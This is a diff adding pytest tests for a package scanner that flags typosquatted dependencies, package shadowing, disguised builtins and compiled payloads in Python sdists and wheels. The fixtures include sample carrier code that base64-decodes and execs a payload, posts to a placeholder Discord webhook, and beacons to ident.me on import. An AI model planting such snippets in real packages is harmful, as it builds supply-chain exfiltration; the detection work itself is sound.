@@ -1,0 +1,154 @@
+"""Scans of packages built here for the shapes real carriers take: dependencies that squat,
+code whose threat and capability sit in different files, names disguised from reviewers."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from builders import gzip_bytes, tar_bytes, write
+from finalexam.analyze.obfuscation import inspect
+from finalexam.analyze.typosquat import requires_txt, setup_py_requires
+from finalexam.config import Config
+from finalexam.exam import run_exam
+from finalexam.model import Location, Report, Severity
+
+PLAIN_SETUP = "from setuptools import setup\nsetup(name='tool', version='1.0')\n"
+
+
+def sdist(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
+    members = {f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"}
+    members.update({f"{name}-1.0/{path}": text for path, text in files.items()})
+    return write(tmp_path / f"{name}-1.0.tar.gz", gzip_bytes(tar_bytes(members)))
+
+
+def high(report: Report) -> dict[str, str]:
+    return {
+        f.rule_id: f.location.chain[-1] if f.location else ""
+        for f in report.findings
+        if f.kind.value in ("behavior", "malicious") and f.severity.rank >= Severity.HIGH.rank
+    }
+
+
+def test_requirement_names_are_read_without_running_setup_py() -> None:
+    assert requires_txt("requests>=2\n\n[dev]\npytest ; python_version>'3'\n") == [
+        "requests",
+        "pytest",
+    ]
+    setup = "REQS = ['reqeusts>=2', 'six']\nsetup(name='x', install_requires=REQS)\n"
+    assert setup_py_requires(setup) == ["reqeusts", "six"]
+    assert setup_py_requires("setup(install_requires=['numpy'])\n") == ["numpy"]
+    assert setup_py_requires("def broken(:\n") == []
+
+
+def test_dependency_squats_in_requires_txt_and_setup_py_are_reported(tmp_path: Path) -> None:
+    squatting = sdist(
+        tmp_path,
+        "carrier",
+        {
+            "setup.py": "from setuptools import setup\nsetup(install_requires=['reqeusts'])\n",
+            "carrier.egg-info/requires.txt": "numpy\nreqeusts>=2.0\n",
+        },
+    )
+    findings = [f for f in run_exam(squatting, Config()).findings if f.rule_id == "typosquat-name"]
+    # a lead (medium): honest packages depend on new names one edit from popular ones
+    assert findings and all(f.severity is Severity.MEDIUM for f in findings)
+    assert {f.location.chain[-1] for f in findings if f.location} >= {
+        "carrier-1.0/setup.py",
+        "carrier-1.0/carrier.egg-info/requires.txt",
+    }
+    honest = sdist(
+        tmp_path,
+        "honest",
+        {"setup.py": PLAIN_SETUP, "honest.egg-info/requires.txt": "requests\nnumpy\n"},
+    )
+    assert "typosquat-name" not in {f.rule_id for f in run_exam(honest, Config()).findings}
+
+
+def test_threat_and_capability_in_different_files_form_a_package_risk(tmp_path: Path) -> None:
+    webhook = "https://discord.com/api/webhooks/123456789012345678/" + "a" * 40
+    split = sdist(
+        tmp_path,
+        "split",
+        {
+            "setup.py": PLAIN_SETUP,
+            "split/consts.py": f"HOOK = {webhook!r}\n",
+            "split/send.py": "import requests\ndef send(d, u):\n    requests.post(u, json=d)\n",
+        },
+    )
+    found = high(run_exam(split, Config()))
+    assert found.get("thr-exfil-endpoint") == "split-1.0/split/consts.py"
+    alone = sdist(tmp_path, "alone", {"setup.py": PLAIN_SETUP, "alone/c.py": f"H = {webhook!r}\n"})
+    assert "thr-exfil-endpoint" not in high(run_exam(alone, Config()))
+
+
+def test_disguised_builtin_names_are_obfuscation() -> None:
+    where = Location(("x.py",))
+    escaped = inspect(where, "z = __import__('\\x7a\\x6c\\x69\\x62')\n", "python")
+    assert [f.rule_id for f in escaped] == ["obf-disguised-name"]
+    assert escaped[0].severity is Severity.HIGH
+    folded = inspect(where, "\u212f\U0001d4cd\u212f\U0001d4b8(payload)\n", "python")
+    assert [f.rule_id for f in folded] == ["obf-disguised-name"]
+    assert "'exec'" in folded[0].message
+    # colour codes and ligatures in comments or strings are ordinary text
+    honest = "RESET = '\\x1b[0m'\n# the de\ufb01nition\ntitle = 'de\ufb01ne'\n"
+    assert inspect(where, honest, "python") == []
+
+
+def test_a_top_level_package_named_like_a_popular_distribution(tmp_path: Path) -> None:
+    shadowing = sdist(tmp_path, "depconf-probe", {"src/requests/__init__.py": ""})
+    assert high(run_exam(shadowing, Config())) == {
+        "shadows-popular-package": "depconf-probe-1.0/src/requests/__init__.py"
+    }
+    own = sdist(tmp_path, "requests", {"src/requests/__init__.py": "", "tests/six/__init__.py": ""})
+    assert "shadows-popular-package" not in high(run_exam(own, Config()))
+
+
+def test_compiled_only_payloads_are_read_from_their_constants(tmp_path: Path) -> None:
+    import importlib.util
+    import marshal
+
+    from builders import zip_bytes
+
+    payload = (
+        "import base64, requests\ndef f(p):\n    exec(base64.b64decode(p))\n"
+        "    requests.post('https://discord.com/api/webhooks/123456789012345678/' + 'a' * 40)\n"
+    )
+    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile(payload, "m.py", "exec"))
+    wheel = write(
+        tmp_path / "carrier-1.0-py3-none-any.whl",
+        zip_bytes(
+            {
+                "carrier-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: carrier\n",
+                "carrier/__init__.py": "from .m import f\n",
+                "carrier/m.pyc": pyc,
+            }
+        ),
+    )
+    found = high(run_exam(wheel, Config()))
+    assert found.get("thr-decoded-exec") == "carrier/m.pyc"
+    assert found.get("thr-exfil-endpoint") == "carrier/m.pyc"
+    honest = (
+        importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile("x = 1\n", "h", "exec"))
+    )
+    clean = write(
+        tmp_path / "clean-1.0-py3-none-any.whl",
+        zip_bytes({"clean-1.0.dist-info/METADATA": "Name: clean\n", "clean/h.pyc": honest}),
+    )
+    assert high(run_exam(clean, Config())) == {}
+
+
+def test_tests_examples_and_fixtures_are_not_import_time_code(tmp_path: Path) -> None:
+    beacon = "import urllib.request\nip = urllib.request.urlopen('https://ident.me').read()\n"
+    fixture = "Metadata-Version: 2.1\nName: grammar\nVersion: 1.0\n"
+    sources = sdist(
+        tmp_path,
+        "lib",
+        {
+            "setup.py": PLAIN_SETUP,
+            "examples/resolver.py": beacon,
+            "tests/fake_dists/grammar-1.0.dist-info/METADATA": fixture,
+        },
+    )
+    assert high(run_exam(sources, Config())) == {}
+    shipped = sdist(tmp_path, "lib2", {"setup.py": PLAIN_SETUP, "lib2/__init__.py": beacon})
+    assert high(run_exam(shipped, Config())) == {"thr-import-network": "lib2-1.0/lib2/__init__.py"}
